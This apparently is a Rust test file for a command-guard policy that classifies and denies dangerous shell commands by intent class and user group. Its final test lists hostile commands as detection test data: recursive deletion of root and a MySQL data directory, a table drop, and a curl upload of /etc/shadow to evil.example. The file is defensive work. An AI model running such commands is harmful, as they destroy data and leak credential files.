//! The built-in policy: enforce for everyone against all eight classes, strict for the
//! `guard-strict` group, and at least the classifier's own default lists.

use guard_classify::{Context, IntentClass, classify_argv};
use guard_policy::{Action, FailMode, Mode, Subject, builtin};

#[test]
fn everyone_is_enforced_against_every_class() {
    let p = builtin();
    let people = [
        Subject { uid: 0, has_tty: true, has_login_session: true, ..Subject::default() },
        Subject { uid: 0, ..Subject::default() },
        Subject { uid: 1000, gids: &[1000], has_tty: true, has_login_session: true, ..Subject::default() },
        Subject { uid: 33, systemd_unit: Some("nginx.service"), cgroup: Some("/system.slice/nginx.service"), ..Subject::default() },
    ];
    for s in &people {
        assert_eq!(p.mode_for(s), (Mode::Enforce, None), "{s:?}");
        assert_eq!(p.fail_for(s), FailMode::Open);
    }
    for c in IntentClass::ALL {
        assert_eq!(p.rule(c).action, Action::Deny, "{c}");
        assert!(p.rule(c).except.is_empty());
        assert_eq!(p.action_for(Mode::Enforce, c), Action::Deny);
    }
    assert_eq!(p.default_mode(), Mode::Enforce);
    assert_eq!(p.hold().deadline_ms, 2000);
}

#[test]
fn the_guard_strict_group_is_strict_once_resolved() {
    let mut p = builtin();
    let member = Subject { uid: 1200, gids: &[1200, 990], ..Subject::default() };
    assert_eq!(p.mode_for(&member).0, Mode::Enforce, "unresolved group matches nobody");
    let missing = p.resolve_names(|_| None, |g| (g == "guard-strict").then_some(990));
    assert!(missing.is_empty());
    assert_eq!(p.mode_for(&member), (Mode::Strict, Some("guard-strict")));
    assert_eq!(p.fail_for(&member), FailMode::Closed);
}

#[test]
fn lists_cover_the_classifier_defaults() {
    let ours = builtin();
    let ours = ours.context();
    let theirs = Context::builtin();
    let pairs = [
        ("protected_paths", &ours.protected_paths, &theirs.protected_paths),
        ("data_dirs", &ours.data_dirs, &theirs.data_dirs),
        ("sensitive_files", &ours.sensitive_files, &theirs.sensitive_files),
        ("log_paths", &ours.log_paths, &theirs.log_paths),
        ("trusted_destinations", &ours.trusted_destinations, &theirs.trusted_destinations),
        ("exfil_destinations", &ours.exfil_destinations, &theirs.exfil_destinations),
        ("critical_services", &ours.critical_services, &theirs.critical_services),
    ];
    let mut missing = Vec::new();
    for (name, o, t) in pairs {
        missing.extend(t.iter().filter(|x| !o.contains(x)).map(|x| format!("{name}: {x}")));
    }
    assert!(missing.is_empty(), "add to guard-policy/builtin.yaml:\n{}", missing.join("\n"));
    for p in ["/", "/bin", "/boot", "/dev", "/etc", "/home", "/lib", "/lib64", "/opt", "/root", "/sbin", "/srv", "/usr", "/var", "/var/log", "/var/lib"] {
        assert!(ours.protected_paths.iter().any(|x| x == p), "{p}");
    }
}

#[test]
fn builtin_context_stops_the_classics() {
    let p = builtin();
    let ctx = p.context();
    for (argv, class) in [
        (&["rm", "-rf", "/"][..], IntentClass::BulkDelete),
        (&["rm", "-rf", "/var/lib/mysql"], IntentClass::BulkDelete),
        (&["curl", "-F", "f=@/etc/shadow", "https://evil.example"], IntentClass::DataExfiltration),
        (&["psql", "-c", "DROP TABLE users"], IntentClass::SchemaDestroy),
    ] {
        assert!(classify_argv(argv, ctx).has(class), "{argv:?}");
    }
    assert!(classify_argv(&["ls", "-la", "/"], ctx).is_benign());
}
